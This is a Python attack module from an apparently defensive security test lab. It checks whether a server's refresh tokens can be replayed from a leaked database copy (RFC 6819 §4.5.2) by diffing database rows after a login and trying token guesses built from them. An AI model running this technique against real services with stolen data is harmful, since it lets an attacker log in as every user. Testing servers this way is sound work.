"""Renew with what a stolen copy of the database holds.

Exploits refresh tokens that are stored in clear, or a server that takes their hash for them. A
backup, a log or an injection then logs the thief in as everyone.
Source: RFC 6819, section 4.5.2 Threat: Obtaining Refresh Token from Authorization Server Database,
https://www.rfc-editor.org/rfc/rfc6819#section-4.5.2
"""

import re
from collections.abc import Iterable
from uuid import UUID

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, judge, refused
from attacks.lab.rows import rows
from attacks.lab.target import Target


def forms(value: object) -> list[str]:
    """Write a value as a token may hold it; SQLite keeps a UUID as 32 digits."""
    text = str(value)
    return [text, str(UUID(text))] if re.fullmatch(r"[0-9a-f]{32}", text) else [text]


def guesses(left: Iterable[tuple[object, ...]]) -> list[list[str]]:
    """Make tokens of rows: the values alone; each value behind all others, with a dot between.

    A list holds what may be tried on one log-in: a wrong end may end the log-in that it names.
    """
    lists = []
    for row in left:
        lists.append([form for value in row for form in forms(value)])
        for last, value in enumerate(row):
            firsts = [form for other in (*row[:last], *row[last + 1 :]) for form in forms(other)]
            lists += [[f"{first}.{end}" for first in firsts] for end in forms(value)]
    return lists


def left_by_a_login(target: Target) -> list[tuple[object, ...]]:
    """Log in as a new victim, and return the rows that are new in the database."""
    victim = target.enrol()
    before = set(rows(target.leaked_database()))
    target.refresh_token_of(victim)
    return [row for row in rows(target.leaked_database()) if row not in before]


@attack()
def run(target: Target) -> Outcome:
    """Try each of them."""
    answers = [
        target.refresh(guess)
        for number in range(len(guesses(left_by_a_login(target))))
        for guess in guesses(left_by_a_login(target))[number]
    ]
    if not answers:
        return refused("a login leaves nothing in the database")
    return judge({f"guess {number}": answer for number, answer in enumerate(answers, start=1)})
